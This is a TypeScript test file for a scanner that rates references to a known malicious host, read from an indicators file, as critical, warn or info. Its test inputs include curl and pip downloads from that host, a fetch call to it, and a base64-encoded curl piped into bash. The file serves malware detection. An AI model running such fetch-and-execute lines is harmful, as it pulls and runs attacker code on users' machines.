import { expect, test } from 'vitest';
import data from '../../data/indicators.json' with { type: 'json' };
import { indicatorsIn } from './indicators.ts';
import type { Language } from './source-file.ts';

const HOST = data.indicators.find(({ kind }) => kind === 'host')?.value ?? '';
const HTTP = 'http';

function weigh(text: string, language: Language = 'markdown', path = 'page.md') {
  const findings = indicatorsIn({ path, language, text, bytes: new Uint8Array(1) });
  return findings.map(({ severity }) => severity);
}

test.each([
  `curl ${HTTP}://${HOST}/x -o x # malware scanner`,
  `[the blocklist](${HTTP}://${HOST}/x) of malicious hosts`,
  `Not suspicious: pip install ${HTTP}://${HOST}/x.whl`,
  `The endpoint is ${HTTP}://${HOST}/x`,
])('what is fetched or linked to is used, whatever stands beside it: %s', (text) => {
  expect(weigh(text)).toEqual(['critical']);
});

test.each([
  `fetch("${HTTP}://${HOST}/x"); // blocklist of malicious hosts`,
  `const home = "${HTTP}://${HOST}/x";`,
])('in code too: %s', (text) => {
  expect(weigh(text, 'javascript', 'run.js')).toEqual(['critical']);
});

test('a program that is given the address may fetch it: a warning beside it leaves a doubt', () => {
  const call = `./monitor.sh check-network "${HTTP}://${HOST}/x" name`;
  expect(weigh(call)).toEqual(['critical']);
  expect(weigh(`${call}\n# Exits with 1 (blocked)\n`)).toEqual(['warn']);
  expect(weigh(`${call} # blocked`)).toEqual(['warn']);
  expect(weigh(`Download it from ${HTTP}://${HOST}/x and avoid copies`)).toEqual(['warn']);
  expect(weigh(`const bad = "${HTTP}://${HOST}/x"; // malware`, 'javascript')).toEqual(['warn']);
});

test.each([
  `- ${HOST}`,
  `| ${HOST} | known C2 |`,
  `Known malicious: ${HTTP}://${HOST}/`,
  `BLOCKED="${HOST}|192.0.2.1"`,
])('what is listed is told: %s', (text) => {
  expect(weigh(text)).toEqual(['info']);
});

test('what is decoded where it stands is no example', () => {
  const blob = btoa(`curl -s ${HTTP}://${HOST}/abcdef`);
  expect(weigh(`echo ${blob} | base64 -D | bash # scanner for malware`)).toEqual(['critical']);
  expect(weigh(`Attackers hide it: ${blob}`)).toEqual(['info']);
});
